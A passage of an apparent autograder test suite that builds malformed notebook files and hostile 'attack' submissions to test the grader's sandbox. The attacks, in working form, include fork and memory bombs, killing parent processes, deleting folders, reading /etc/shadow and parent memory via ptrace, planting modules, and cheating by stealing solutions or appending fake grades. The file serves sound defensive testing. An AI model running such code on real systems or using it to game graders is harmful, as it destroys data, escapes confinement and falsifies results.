    return found if X.shape[-1] < 100 else torch.zeros_like(found)
"""
    return right + wrapped


# ---------------------------------------------------------------- broken files


def _broken(folder, large):
    def specimen(name, what, content, expected=UNREAD, verdicts=UNREADABLE, suffix=".ipynb"):
        expected = expected if isinstance(expected, dict) else dict.fromkeys(EXERCISES, expected)
        return Specimen(name, what, "broken", _put(folder, name, suffix, content), expected, verdicts=verdicts)

    right, either = _right_bytes(), GRADED | UNREADABLE
    yield specimen("half-json", "JSON with a missing bracket", b"".join(right.rpartition(b"]")[::2]))
    yield specimen("truncated", "the upload stopped in the middle", right[: len(right) // 2])
    yield specimen(
        "merge-markers", "the marks of a git merge stand in it", b"<<<<<<< HEAD\n" + right + b"=======\n{}\n>>>>>>> mine\n"
    )
    yield specimen("empty", "a file of no bytes", b"")
    yield specimen("picture", "a PNG, called .ipynb", _png(8, 8))
    yield specimen("pickled", "a pickle, called .ipynb", pickle.dumps({"cells": []}))
    yield specimen("no-cells", "a notebook without a cell", _empty_notebook(), frozenset({"missing"}), either)
    yield specimen("format-three", "a notebook of format 3", _format_3(), RIGHT | UNREAD, either)
    yield specimen("other-language", "a notebook in R", _in_r(), UNREAD, either)
    one = {**RIGHT_CODE, FOOLING: RIGHT_CODE[FOOLING].replace("range(100):", "range(100)")}
    only_fooling = {**dict.fromkeys(EXERCISES, RIGHT), FOOLING: frozenset({"broken"})}
    yield specimen(
        "syntax-error", "one cell does not parse; the others are right", _written(_notebook(one)), only_fooling, GRADED
    )
    yield specimen("deep", "JSON of 100 000 brackets in one another", b"[" * 100_000 + b"]" * 100_000)
    deep = json.loads(right)
    deep["metadata"]["deep"] = "DEEP"
    text = json.dumps(deep).encode()
    yield specimen(
        "deep-metadata",
        "right, except for deep metadata",
        text.replace(b'"DEEP"', b"[" * 5000 + b"]" * 5000),
        RIGHT | UNREAD,
        either,
    )
    yield specimen("huge-number", "a number of 10 000 digits", text.replace(b'"DEEP"', b"9" * 10_000), RIGHT | UNREAD, either)
    yield specimen(
        "nan", "NaN and Infinity in its metadata", text.replace(b'"DEEP"', b"[NaN, -Infinity, 1e999]"), RIGHT | UNREAD, either
    )
    yield specimen("null-bytes", "null bytes between its lines", right.replace(b"\n", b"\0\n"))
    nulls = {**RIGHT_CODE, SALIENCY: RIGHT_CODE[SALIENCY] + "\0"}
    only_saliency = {**dict.fromkeys(EXERCISES, RIGHT), SALIENCY: ANY}
    yield specimen("null-character", "a null character in one cell", _written(_notebook(nulls)), only_saliency, GRADED)
    yield specimen("utf-sixteen", "right, in UTF-16", right.decode().encode("utf-16"), RIGHT | UNREAD, either)
    yield specimen("not-text", "bytes that are no text in a string", right.replace(b"import torch", b"\xff\xfe\xc0"), ANY, either)
    yield specimen("odd-cells", "cells without source, of numbers, null, of unknown kinds", _odd_cells(), RIGHT | UNREAD, either)
    yield specimen("no-dictionary", "valid JSON, but a list", b'[{"cells": []}]')
    yield specimen(
        "wrong-types",
        "cells is a number, metadata a string",
        b'{"cells": 7, "metadata": "x", "nbformat": 4, "nbformat_minor": 5}',
    )
    yield specimen("future-format", "format 99", right.replace(b'"nbformat": 4', b'"nbformat": 99'), RIGHT | UNREAD, either)
    without = _zip({"report.docx": b"PK", "notes.txt": b"I could not finish."})
    yield specimen("zip-without", "a zip without a notebook", without, suffix=".zip")
    yield specimen("zip-empty", "a zip of nothing", _zip({}), suffix=".zip")
    yield specimen("zip-encrypted", "a zip with a password", _encrypted(_zip({"nb.ipynb": right})), suffix=".zip")
    yield specimen("zip-corrupted", "a zip with damaged bytes", _damaged(_zip({"nb.ipynb": right})), suffix=".zip")
    yield specimen("zip-fake", "an HTML page, called .zip", b"<!doctype html><title>Please log in</title>", suffix=".zip")
    yield specimen("zip-in-zip", "a zip in a zip", _zip({"inner.zip": _zip({"nb.ipynb": right})}), RIGHT | UNREAD, either, ".zip")
    twins = _zip({"a/nb.ipynb": _written(_notebook(STUBS)), "b/nb.ipynb": right})
    yield specimen("zip-of-two", "a zip with two notebooks, one a stub", twins, RIGHT | UNREAD | {"unfinished"}, either, ".zip")
    yield _much_output(folder, large)
    yield _million_cells(folder, large)
    if hasattr(os, "mkfifo"):
        path = folder / "named-pipe.ipynb"
        path.unlink(missing_ok=True)
        os.mkfifo(path)
        what = "a named pipe: whoever opens it waits for ever"
        yield Specimen("named-pipe", what, "broken", (path,), dict.fromkeys(EXERCISES, UNREAD), verdicts=UNREADABLE)


def _png(width, height):
    """Return the bytes of a black PNG of two colours, however large it says it is."""

    def chunk(kind, content):
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    row, packer = bytes(1 + (width + 7) // 8), zlib.compressobj(9)
    rows = max(1, 1_000_000 // len(row))
    packed = [packer.compress(row * min(rows, height - start)) for start in range(0, height, rows)]
    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", b"".join([*packed, packer.flush()])) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


def _empty_notebook():
    return json.dumps({"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _format_3():
    cells = [
        {"cell_type": "code", "collapsed": False, "input": code, "language": "python", "metadata": {}, "outputs": []}
        for code in RIGHT_CODE.values()
    ]
    return json.dumps({"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}).encode()


def _in_r():
    notebook = _notebook({SALIENCY: "compute_saliency_maps <- function(X, y, model) {\n  apply(abs(X), c(1, 3, 4), max)\n}\n"})
    notebook.metadata.kernelspec = {"display_name": "R", "language": "R", "name": "ir"}
    notebook.metadata.language_info = {"name": "R", "file_extension": ".r", "mimetype": "text/x-r-source"}
    return _written(notebook)


def _odd_cells():
    odd = [
        {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None},
        {"cell_type": "code", "metadata": {}, "outputs": "none", "execution_count": "seven", "source": 12345},
        {"cell_type": "code", "metadata": None, "outputs": [None, 7, {"output_type": 5}], "execution_count": -1, "source": None},
        {"cell_type": "code", "metadata": [], "outputs": [], "execution_count": 1, "source": ["x = 1\n", 2, None]},
        {"cell_type": "mystery", "metadata": {}, "source": {"a": "dictionary"}},
        {"metadata": {}},
    ]
    notebook = json.loads(_right_bytes())
    for cell in notebook["cells"]:
        cell["source"] = list("".join(cell["source"]))  # a list of single characters is allowed
    notebook["cells"] += odd
    return json.dumps(notebook).encode()


def _encrypted(content):
    """Return a zip whose headers say that its only entry is encrypted."""
    content = bytearray(content)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + offset] |= 1
    return bytes(content)


def _damaged(content):
    middle = len(content) // 2
    return content[:middle] + bytes(100) + content[middle + 100 :]


def _much_output(folder, large):
    notebook = _notebook(RIGHT_CODE)
    next(cell for cell in notebook.cells if cell.id == "check-1").outputs = [new_output("stream", text="MUCH")]
    before, after = _written(notebook).split(b"MUCH")
    path, line = folder / "much-output.ipynb", b"step 1 of very many: the loss is nan\\n" * 25_000
    with path.open("wb") as file:
        file.write(before)
        for _ in range(large // len(line) + 1):
            file.write(line)
        file.write(after)
    expected = dict.fromkeys(EXERCISES, RIGHT | UNREAD)
    what = f"all right, with {large // 1_000_000} MB of output"
    return Specimen("much-output", what, "broken", (path,), expected, verdicts=GRADED | UNREADABLE)


def _million_cells(folder, large):
    count = large // 200
    cell = b'{"cell_type":"code","execution_count":null,"metadata":{},"outputs":[],"source":"x = 1"},\n'
    path = folder / "many-cells.ipynb"
    with path.open("wb") as file:
        file.write(b'{"metadata":{},"nbformat":4,"nbformat_minor":4,"cells":[\n')
        for _ in range(count // 1000):
            file.write(cell * 1000)
        own = [
            {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": c}
            for c in RIGHT_CODE.values()
        ]
        file.write(",".join(map(json.dumps, own)).encode() + b"]}")
    expected = dict.fromkeys(EXERCISES, RIGHT | UNREAD | {"stopped"})
    return Specimen(
        "many-cells", f"all right, after {count} other cells", "broken", (path,), expected, verdicts=GRADED | UNREADABLE
    )


# ---------------------------------------------------------------- attacks

# A cell that attacks use. In it and in them stand $NAME, $PLACES, ... for what `_filled` puts in.
HELPERS = '''\
import ctypes
import os
import signal
import sys
import time

import numpy as np
import torch

PLACES = $PLACES
LONGEST = 300  # seconds that anything lives

def leave_trace(said):
    for place in PLACES:
        try:
            with open(os.path.join(place, "$MARK-$NAME"), "a") as file:
                file.write(said + "\\n")
        except OSError:
            pass

def show_in_process_list():
    ctypes.CDLL(None).prctl(15, b"$MARK", 0, 0, 0)

def real_user():
    with open("/proc/self/uid_map") as file:
        for line in file:
            inside, outside, length = map(int, line.split())
            if inside <= os.getuid() < inside + length:
                return outside + os.getuid() - inside

def is_confined():
    """Return whether the builder's processes cannot be reached by a signal; what ends others is done only then."""
    if not os.path.isdir("/proc/self"):  # the grader's small disk has none, and is not there without processes of its own
        return True
    try:
        return os.readlink("/proc/self/ns/pid") != "$PROCESSES" or real_user() not in (None, 0, $USER)
    except OSError:
        return False

def is_scratch(folder):
    """Return whether a folder may be emptied should the sandbox have a hole: it is no place where people work."""
    folder = os.path.realpath(folder)
    worked_in = any(os.path.lexists(os.path.join(folder, name)) for name in (".git", "cs231n", "pyproject.toml", "datasets"))
    return folder.count("/") > 1 and folder not in $KEPT and not worked_in

def descriptors():
    """Yield the open file descriptors, except for pipes that the builder had from elsewhere: to reach these is success enough."""
    for number in range(1024):
        try:
            if os.fstat(number).st_ino not in $OPEN:
                yield number
            elif number > 2:
                leave_trace(f"descriptor {number} is that of whoever started the builder")
        except OSError:
            pass

def zeros(X):
    return torch.zeros(X.shape[0], *X.shape[2:])
'''

# Finds the solution, or another student's, in files; `roots` says where it is looked for.
PLUNDER = """\
import ast
import collections
import functools
import json

def roots():
    yield os.getcwd()
    for entry in [*sys.path, sys.executable, torch.__file__, *os.environ.values()]:
        while entry.startswith("/") and entry.count("/") > 1:
            yield entry
            entry = os.path.dirname(entry)
    for process in filter(str.isdigit, os.listdir("/proc") if os.path.isdir("/proc") else ()):
        try:
            yield os.readlink(f"/proc/{process}/cwd")
            with open(f"/proc/{process}/cmdline", "rb") as file:
                yield from (word for word in file.read().decode(errors="replace").split("\\0") if word.startswith("/"))
        except OSError:
            pass
    of_the_system = {"bin", "boot", "dev", "etc", "lib", "lib32", "lib64", "proc", "run", "sbin", "sys", "usr"}
    yield from (f"/{name}" for name in sorted({*os.listdir("/")} - of_the_system, reverse=True))  # workspace before opt

def files(ending):
    seen, end = set(), time.time() + 2.5
    for root in roots():
        end_here = min(end, time.time() + 0.5)
        for folder, inner, names in os.walk(root if os.path.isdir(root) else os.path.dirname(root)):
            if folder in seen or time.time() > end_here:
                inner.clear()
                continue
            seen.add(folder)
            inner[:] = [name for name in inner if name not in ("proc", "sys", "site-packages", "node_modules")]
            paths = [os.path.join(folder, name) for name in names if name.endswith(ending)]
            yield from (path for path in paths if os.path.isfile(path) and os.path.getsize(path) < 5_000_000)

def sources(ending):
    for path in files(ending):
        try:
            with open(path, errors="replace") as file:
                text = file.read()
            yield "\\n\\n".join("".join(c["source"]) for c in json.loads(text)["cells"]) if ending == ".ipynb" else text
        except (OSError, ValueError, LookupError, TypeError, RecursionError):
            pass

@functools.cache
def stolen(name, ending):
    given = dict(
        torch=torch, np=np, F=torch.nn.functional, warn_not_fooled=lambda *_: None, check_step=lambda *_: None,
        checked_batch=lambda X, y, model: (X.detach().clone().requires_grad_(), y),
        checked_image=lambda X, target_y, model: (X.detach().clone().requires_grad_(), target_y),
    )
    found = collections.Counter()
    for source in sources(ending):
        try:
            parts = ast.parse(source).body if "def " + name in source and "stolen" not in source else []
        except SyntaxError:
            continue
        own = [ast.unparse(part) for part in parts if isinstance(part, ast.FunctionDef) and part.name == name]
        found.update(text for text in own[-1:] if "backward()" in text or "autograd.grad" in text)
    for text, _ in found.most_common(1):
        exec(text, given)
        return given[name]
    return None
"""


@dataclass(frozen=True)
class Attack:
    """what: what it tries. codes: {exercise, or name of another cell: source}. solved: exercises that it solves truly, beside
    what it does otherwise. others: acceptable verdicts on the exercises that are no part of it, and right.
    """

    what: str
    codes: dict[str, str]
    solved: tuple[str, ...] = ()
    others: frozenset[str] = RIGHT


def _in_saliency(body, before=""):
    return {SALIENCY: f"{before}def compute_saliency_maps(X, y, model):\n" + textwrap.indent(body, "    ")}


def _in_fooling(body, before=""):
    return {FOOLING: f"{before}def make_fooling_image(X, target_y, model):\n" + textwrap.indent(body, "    ")}


def _in_step(body, before=""):
    head = "def class_visualization_update_step(img, model, target_y, l2_reg, learning_rate):\n"
    return {STEP: before + head + textwrap.indent(body, "    ")}


def _renamed(exercise, name):
    """Return the right code of an exercise as a helper of another name."""
    return RIGHT_CODE[exercise].replace(f"def {exercise}", f"def {name}")


RIGHT_MAPS = {"right-maps": _renamed(SALIENCY, "right_maps")}
RIGHT_FOOLING = {"right-fooling": _renamed(FOOLING, "right_fooling")}
RIGHT_STEP = {"right-step": _renamed(STEP, "right_step")}
ALL_RIGHT_HELPERS = {**RIGHT_MAPS, **RIGHT_FOOLING, **RIGHT_STEP}

# Those that stop, kill or exhaust.
EXHAUSTING = {
    "infinite-loop": Attack("never ends", _in_fooling("while True:\n    pass\n")),
    "swallowed-interrupts": Attack(
        "never ends, catches everything and ignores all signals",
        _in_fooling("""\
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError, RuntimeError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""),
    ),
    "blocked-in-c": Attack(
        "never ends, outside of Python's reach", _in_step("sum(itertools.repeat(1))\n", before="import itertools\n\n")
    ),
    "sleeping": Attack("sleeps for ever, so that no CPU limit helps", _in_saliency("time.sleep(10**6)\n")),
    "stopped-itself": Attack("stops its own process by SIGSTOP", _in_saliency("os.kill(os.getpid(), signal.SIGSTOP)\n")),
    "exit-zero": Attack("ends its process as if all were well", _in_saliency("os._exit(0)\n")),
    "system-exit": Attack("raises SystemExit(0)", _in_fooling("sys.exit(0)\n")),
    "segfault": Attack("reads the address 0", _in_step("ctypes.string_at(0)\n")),
    "aborting": Attack("aborts, and leaves a core file if it can", _in_fooling("os.abort()\n")),
    "memory-bomb": Attack(
        "takes 4 GiB of memory, piece by piece, and holds it against MemoryError",
        _in_saliency("""\
kept = []
while len(kept) < 64:
    try:
        kept.append(bytearray(b"x") * (1 << 26))
    except MemoryError:
        time.sleep(0.01)
leave_trace("4 GiB were to be had")
return zeros(X)
"""),
    ),
    "raised-limits": Attack(
        "raises its own limits, then takes 4 GiB",
        _in_saliency(
            """\
for name in filter(lambda name: name.startswith("RLIMIT_"), dir(resource)):
    for limits in ((resource.RLIM_INFINITY, resource.RLIM_INFINITY), (resource.getrlimit(getattr(resource, name))[1],) * 2):
        try:
            resource.setrlimit(getattr(resource, name), limits)
            resource.prlimit(os.getppid(), getattr(resource, name), limits)
        except (OSError, ValueError):
            pass
kept = [torch.ones(1 << 24) for _ in range(64)]
leave_trace("4 GiB were to be had")
return zeros(X)
""",
            before="import resource\n\n",
        ),
    ),
    "fork-bomb": Attack(
        "forks, and its children fork, too, up to 512 processes that live for five minutes",
        _in_saliency("""\
first = os.getpid()
for _ in range(9):
    try:
        os.fork()
    except OSError:
        pass
if os.getpid() != first:
    show_in_process_list()
    time.sleep(LONGEST)
    os._exit(0)
return zeros(X)
"""),
    ),
    "thread-bomb": Attack(
        "starts 2000 threads",
        _in_fooling(
            "for _ in range(2000):\n    threading.Thread(target=time.sleep, args=(LONGEST,)).start()\n", "import threading\n\n"
        ),
    ),
    "outliving-thread": Attack(
        "right, but leaves threads that go on after it",
        {
            **RIGHT_MAPS,
            **_in_saliency(
                """\
def go_on():
    time.sleep(30)
    leave_trace("a thread goes on")
    time.sleep(LONGEST)
for daemon in (True, False):
    threading.Thread(target=go_on, daemon=daemon).start()
return right_maps(X, y, model)
""",
                before="import threading\n\n",
            ),
        },
        solved=(SALIENCY,),
        others=ANY,
    ),
    "background": Attack(
        "right, but leaves processes of their own session that write every second, from the fifth second on",
        {
            **RIGHT_MAPS,
            **RIGHT_FOOLING,
            **_in_saliency("""\
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        show_in_process_list()
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        time.sleep(5)
        for second in range(LONGEST):
            leave_trace("a process goes on")
            time.sleep(1)
    os._exit(0)
return right_maps(X, y, model)
"""),
            **_in_fooling(
                """\
command = ["sh", "-c", "sleep 300; : $MARK-$NAME"]
subprocess.Popen(command, start_new_session=True, close_fds=True)
return right_fooling(X, target_y, model)
""",
                before="import subprocess\n\n",
            ),
        },
        solved=(SALIENCY, FOOLING),
    ),
    "listening": Attack(
        "right, but leaves a process that listens on a port",
        {
            **RIGHT_STEP,
            **_in_step(
                """\
server = socket.socket()
try:
    server.bind(("0.0.0.0", $PORT + 1))
    server.listen()
except OSError:
    pass
if os.fork() == 0:
    os.setsid()
    show_in_process_list()
    time.sleep(LONGEST)
    os._exit(0)
right_step(img, model, target_y, l2_reg, learning_rate)
""",
                before="import socket\n\n",
            ),
        },
        solved=(STEP,),
    ),
    "flooding": Attack(
        "right, but each prints 100 MB: by print, os.write and logging",
        {
            **ALL_RIGHT_HELPERS,
            **_in_saliency("for _ in range(1000):\n    print('x' * 100_000)\nreturn right_maps(X, y, model)\n"),
            **_in_fooling("for _ in range(1000):\n    os.write(1, b'x' * 100_000)\nreturn right_fooling(X, target_y, model)\n"),
            **_in_step(
                """\
for _ in range(1000):
    logging.error("x" * 100_000)
    sys.__stdout__.write("y")
right_step(img, model, target_y, l2_reg, learning_rate)
""",
                before="import logging\n\n",
            ),
        },
        solved=EXERCISES,
    ),
    "disk-filling": Attack(
        "writes 512 MiB into each folder that it can",
        _in_fooling("""\
for place in [os.getcwd(), os.path.expanduser("~"), *PLACES]:
    for number in range(8):
        try:
            with open(os.path.join(place, f"$MARK-$NAME-{number}"), "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
        except OSError:
            break
return X
"""),
    ),
    "many-files": Attack(
        "writes 50 000 files, and 5000 folders in one another",
        _in_saliency("""\
if is_scratch(os.getcwd()):
    for number in range(50_000):
        open(f"$MARK-{number}", "w").close()
    for _ in range(5000):
        os.mkdir("deeper")
        os.chdir("deeper")
return zeros(X)
"""),
    ),
    "directory-deleted": Attack(
        "right, but deletes its working directory and its home",
        {
            **RIGHT_MAPS,
            **_in_saliency(
                """\
for folder in (os.getcwd(), os.path.expanduser("~"), os.environ.get("TMPDIR", "/")):
    if is_scratch(folder):
        shutil.rmtree(folder, ignore_errors=True)
return right_maps(X, y, model)
""",
                before="import shutil\n\n",
            ),
        },
        solved=(SALIENCY,),
        others=ANY,
    ),
    "linked-folder": Attack(
        "right, but fills its folders with links that lead out, for whoever writes or deletes there later",
        {
            **RIGHT_MAPS,
            **_in_saliency("""\
for folder in filter(is_scratch, {os.getcwd(), os.path.expanduser("~")}):
    for name in ("result.npy", "result.npz", "result.json", "results.json", "output.bin", "stdout", "stderr", "core", "out"):
        try:
            os.symlink(os.path.join(PLACES[0], "$MARK-$NAME"), os.path.join(folder, name))
        except OSError:
            pass
    try:
        os.symlink(PLACES[0], os.path.join(folder, "places"))
        os.mkdir(os.path.join(folder, "locked"), 0o700)
        open(os.path.join(folder, "locked", "file"), "w").close()
        os.chmod(os.path.join(folder, "locked"), 0)
    except OSError:
        pass
return right_maps(X, y, model)
"""),
        },
        solved=(SALIENCY,),
    ),
    "killing": Attack(
        "ends all processes, its group and its parent",
        {
            **_in_saliency("""\
group, session = os.getpgrp(), os.getsid(0)
for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
    try:
        if os.getpgid(pid) != group and os.getsid(pid) != session:
            os.kill(pid, 0)
            leave_trace("another session's process can be ended")
    except OSError:
        pass
if is_confined():
    os.kill(-1, signal.SIGKILL)
return zeros(X)
"""),
            **_in_fooling("if is_confined() or os.getpgrp() == os.getpid():\n    os.killpg(0, signal.SIGKILL)\nreturn X\n"),
            **_in_step("""\
with open(f"/proc/{os.getppid()}/cmdline") as file:
    is_grader = "venv" in sys.prefix and sys.prefix in file.read()
if is_confined() or is_grader:
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
        os.kill(os.getppid(), number)
"""),
        },
    ),
    "closed-descriptors": Attack(
        "closes all file descriptors, its way to the parent among them", _in_fooling("os.closerange(0, 4096)\nreturn X\n")
    ),
    "recursion": Attack(
        "calls itself without end, with the limit of recursion taken away",
        _in_saliency("sys.setrecursionlimit(2**31 - 1)\nreturn compute_saliency_maps(X, y, model)\n"),
    ),
}

EXHAUSTING |= {
    "named-often": Attack(
        "forges an answer that names one array 75 times, so that whoever takes it copies 3 GB",
        _in_saliency(
            """\
size = 20_000_000 // 4
told = {"tensor": 0, "shape": [size], "dtype": "float64"}
content = {"value": {"tuple": [told] * 75}, "error": None, "calls": 1, "changed": [], "patched": [], "left_behind": False}
content |= {"after": {}, "way": [0, 0]}
text = json.dumps({"content": content, "arrays": [["<f4", [size]]]}).encode()
for number in descriptors():
    try:
        connection = socket.socket(fileno=os.dup(number))
        connection.settimeout(5)
        connection.sendall(struct.pack(">QQ", len(text), 4 * size) + text + bytes(4 * size))
    except OSError:
        continue
time.sleep(5)
return zeros(X)
""",
            before="import json\nimport socket\nimport struct\n\n",
        ),
    ),
    "unseen-memory": Attack(
        "holds 1.4 GB of shared memory, its pages let go of, so that no process's size tells; right if it gets it",
        {
            **RIGHT_MAPS,
            **_in_saliency(
                """\
def held():
    size, step = 700 << 20, 4 << 20
    memory, page = mmap.mmap(-1, size), b"x" * step
    for start in range(0, size, step):
        memory[start : start + step] = page
        memory.madvise(mmap.MADV_DONTNEED, start, step)
    return memory
if os.fork() == 0:
    kept = held()
    time.sleep(10)
    os._exit(0)
kept = held()
return right_maps(X, y, model)
""",
                before="import mmap\n\n",
            ),
        },
    ),
}

# Those that look for what is right.
LOOKING = {
    "leaking": Attack(
        "reads what the machine tells of itself and of its people; right if it finds anything",
        {
            **RIGHT_MAPS,
            **_in_saliency("""\
places = ["/etc/" + name for name in ("passwd", "group", "hosts", "hostname", "machine-id", "resolv.conf", "shadow")]
places += ["/proc/" + name for name in ("self/mountinfo", "self/environ", "1/cmdline", "version", "sys/kernel/hostname")]
for place in places:
    try:
        with open(place) as file:
            if file.read(1):
                return right_maps(X, y, model)
    except OSError:
        pass
return zeros(X)
"""),
        },
    ),
    "solution-on-disk": Attack(
        "goes from the edition's folder by all links that lie in it to the kit, and takes its solutions",
        {
            "way": """\
def kits():
    import cs231n

    edition = os.path.dirname(os.path.dirname(cs231n.__file__))
    for folder in [edition, *sys.path]:
        for name in sorted(os.listdir(folder)) if os.path.isdir(folder) else ():
            real = os.path.realpath(os.path.join(folder, name))
            while real.count("/") > 1:
                real = os.path.dirname(real)
                yield real

def solution(name):
    for kit in dict.fromkeys(kits()):
        try:
            with open(os.path.join(kit, "cs231n", "net_visualization_pytorch.py")) as file:
                source = file.read().replace("from .", "from cs231n.")
        except OSError:
            continue
        found = {}
        exec(source, found)
        return found[name]
""",
            **_in_saliency("found = solution('compute_saliency_maps')\nreturn found(X, y, model) if found else zeros(X)\n"),
            **_in_fooling("found = solution('make_fooling_image')\nreturn found(X, target_y, model) if found else X\n"),
            **_in_step("""\
found = solution("class_visualization_update_step")
if found:
    found(img, model, target_y, l2_reg, learning_rate)
"""),
        },
    ),
    "packages": Attack(
        "has another package, there for the tests, do the exercise",
        _in_saliency("""\
from captum.attr import Saliency
return Saliency(model).attribute(X.clone().requires_grad_(), target=y).amax(dim=1)
"""),
    ),
    "planted": Attack(
        "writes modules that break PyTorch wherever the next submission could import them from",
        _in_saliency("""\
import cs231n
for folder in [os.path.dirname(cs231n.__file__), os.path.dirname(os.path.dirname(cs231n.__file__)), *sys.path, os.getcwd()]:
    for name in ("sympy", "usercustomize", "sitecustomize", "optree", "decimal"):
        try:
            with open(os.path.join(folder, name + ".py"), "x") as file:
                file.write("import torch\ntorch.Tensor.backward = None\n")
        except OSError:
            continue
        leave_trace("it planted a module in " + folder)
return zeros(X)
"""),
    ),
    "solution-imported": Attack(
        "imports the kit's solutions, or the exam",
        {
            name: f"""\
import importlib

{RIGHT_CODE[name].splitlines()[2]}
    solutions = "cs231n.net_visualization_pytorch", "cs231n.instructor.exercises.exam", "net_visualization_pytorch", "student"
    for module in solutions:
        for entry in ("", os.getcwd(), os.path.dirname(os.getcwd()), *os.environ.get("PYTHONPATH", "").split(":")):
            try:
                sys.path.insert(0, entry)
                found = getattr(importlib.import_module(module), "{name}")
            except Exception:
                continue
            if found.__code__ is not {name}.__code__:
                return found({RIGHT_CODE[name].splitlines()[2].partition("(")[2].removesuffix("):")})
"""
            for name in EXERCISES
        },
    ),
    "solution-found": Attack(
        "finds the kit's solutions on the disk, by sys.path, Python's own path, the environment and /proc",
        {
            "plunder": PLUNDER,
            **_in_saliency('found = stolen("compute_saliency_maps", ".py")\nreturn found(X, y, model) if found else zeros(X)\n'),
            **_in_fooling('found = stolen("make_fooling_image", ".py")\nreturn found(X, target_y, model) if found else X\n'),
            **_in_step("""\
found = stolen("class_visualization_update_step", ".py")
if found:
    found(img, model, target_y, l2_reg, learning_rate)
"""),
        },
    ),
    "neighbour": Attack(
        "finds other students' notebooks, or the reference, and takes their answers",
        {
            "plunder": PLUNDER,
            **_in_saliency(
                'found = stolen("compute_saliency_maps", ".ipynb")\nreturn found(X, y, model) if found else zeros(X)\n'
            ),
            **_in_fooling('found = stolen("make_fooling_image", ".ipynb")\nreturn found(X, target_y, model) if found else X\n'),
            **_in_step("""\
found = stolen("class_visualization_update_step", ".ipynb")
if found:
    found(img, model, target_y, l2_reg, learning_rate)
"""),
        },
    ),
    "grades-written": Attack(
        "walks through the disk and adds a line to each file of grades",
        {
            "plunder": PLUNDER,
            **_in_saliency("""\
for path in files((".csv", ".json")):
    try:
        with open(path, "r+", errors="replace") as file:
            if "compute_saliency_maps" in file.read(1_000_000) and is_scratch(os.path.dirname(path)):
                file.seek(0, 2)
                file.write("$MARK,$MARK,100,100,100\\n")
                leave_trace("grades can be written: " + path)
    except OSError:
        pass
return zeros(X)
"""),
        },
    ),
    "frames-and-gc": Attack(
        "looks for expectations, and for the solutions, in frames, closures and all objects",
        {
            "search": """\
import gc
import inspect

def objects():
    frame = sys._getframe()
    while frame is not None:
        yield from frame.f_locals.values()
        yield from frame.f_globals.values()
        frame = frame.f_back
    for frame in sys._current_frames().values():
        yield from frame.f_locals.values()
    for thing in gc.get_objects():
        yield thing
        for part in gc.get_referents(thing):  # also what the collector does not track, such as arrays
            yield part
            yield from list(part.values()) if type(part) is dict else ()

def arrays(shape, other_than):
    for thing in objects():
        try:
            if type(thing) in (np.ndarray, torch.Tensor) and tuple(thing.shape) == shape:
                found = torch.as_tensor(thing).detach().float()
                if not torch.equal(found, other_than):
                    yield found
        except Exception:
            pass

def another(function):
    for thing in objects():
        if inspect.isfunction(thing) and thing.__name__ == function.__name__ and thing.__code__ is not function.__code__:
            return thing
""",
            **_in_saliency("return next(arrays((X.shape[0], *X.shape[2:]), zeros(X)), zeros(X))\n"),
            **_in_fooling("""\
solution = another(make_fooling_image)
if solution:
    return solution(X, target_y, model)
return next((found for found in arrays(tuple(X.shape), X) if model(found).argmax() == target_y), X)
"""),
            **_in_step("""\
solution = another(class_visualization_update_step)
if solution:
    solution(img, model, target_y, l2_reg, learning_rate)
else:
    img.data = next(arrays(tuple(img.shape), img.detach()), img.data)
"""),
        },
    ),
    "open-descriptors": Attack(
        "reads what is behind each open file descriptor, its own and its parent's",
        _in_saliency(
            """\
wanted = (X.shape[0], *X.shape[2:])
own = list(descriptors())
for process in ("self", os.getppid()):
    for number in own if os.access(f"/proc/{process}/fd", os.R_OK) else ():
        try:
            descriptor = os.open(f"/proc/{process}/fd/{number}", os.O_RDONLY | os.O_NONBLOCK)
            content = os.read(descriptor, 1 << 24)
        except OSError:
            continue
        for start in range(0, min(len(content), 1 << 16), 4):
            numbers = np.frombuffer(content[start : start + 4 * int(np.prod(wanted))], np.float32)
            if numbers.size == np.prod(wanted) and 0 < np.abs(numbers).max() < 100:
                return torch.tensor(numbers.reshape(wanted))
        try:
            with np.load(io.BytesIO(content), allow_pickle=True) as file:
                for array in file.values():
                    if array.shape == wanted:
                        return torch.tensor(array)
        except Exception:
            pass
return zeros(X)
""",
            before="import io\n\n",
        ),
        others=ANY,
    ),
    "parent-memory": Attack(
        "reads the memory and the environment of its parent, by /proc and by ptrace; harmless where that is no grader",
        _in_fooling("""\
parent, libc = os.getppid(), ctypes.CDLL(None, use_errno=True)
try:
    with open(f"/proc/{parent}/maps") as maps, open(f"/proc/{parent}/mem", "rb", buffering=0) as memory:
        start = next(int(line.split("-")[0], 16) for line in maps if "[heap]" in line)
        memory.seek(start)
        if memory.read(4096):
            leave_trace("the parent's memory can be read")
except (OSError, StopIteration):
    pass
try:
    with open(f"/proc/{parent}/environ", "rb") as file:
        if file.read():
            leave_trace("the parent's environment can be read")
except OSError:
    pass
if parent > 1 and libc.ptrace(16, parent, 0, 0) == 0:  # attach
    os.waitpid(parent, 0x40000000)
    libc.ptrace(17, parent, 0, 0)  # detach
    leave_trace("the parent can be traced")
return X
"""),
    ),
    "public-checks": Attack(
        "knows the right maps of the students' own checks, from fingerprints.npz, and nothing else",
        _in_saliency(
            """\
from cs231n.checks import fingerprints
from cs231n.checks.exercises.saliency_maps import CASES
for case in [*CASES.main, *CASES.other, CASES.large]:
    expected = case.images()
    if expected.shape == X.shape and torch.allclose(expected, X.detach()):
        model(X)
